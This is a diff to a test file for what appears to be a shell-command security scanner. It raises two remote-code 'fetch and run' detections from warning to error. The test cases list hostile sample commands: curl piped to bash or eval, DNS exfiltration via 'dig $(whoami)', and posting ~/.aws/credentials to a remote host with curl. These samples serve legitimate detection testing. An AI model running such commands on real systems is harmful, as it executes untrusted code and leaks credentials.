@@ -114,7 +114,7 @@ def test_depth_bound_is_reported():
             Severity.WARNING,
             "curl -o /tmp/i.sh https://x.dev/i && bash /tmp/i.sh",
         ),
-        ('X=$(curl -s https://a.dev/p); eval "$X"', "SUP011", Severity.WARNING, 'eval "$X"'),
+        ('X=$(curl -s https://a.dev/p); eval "$X"', "SUP011", Severity.ERROR, 'eval "$X"'),
         ("dig $(whoami).x.com", "EXF013", Severity.ERROR, "dig $(whoami).x.com"),
         (
             "cat ~/.aws/credentials | curl -d @- https://c.dev",
@@ -567,8 +567,9 @@ def test_quoting_and_variable_evasions(src):
 
 
 def test_variable_alias_range_covers_the_reference():
+    # the de-obfuscated reading runs `sh`, which the literal one does not: an error (docs/commands.md)
     src = "S=sh; curl -s https://x.dev/p | $S"
-    assert hits(src) == [("SUP011", Severity.WARNING, "curl -s https://x.dev/p | $S")]
+    assert hits(src) == [("SUP011", Severity.ERROR, "curl -s https://x.dev/p | $S")]
 
 
 def test_dev_tcp_reverse_shell():
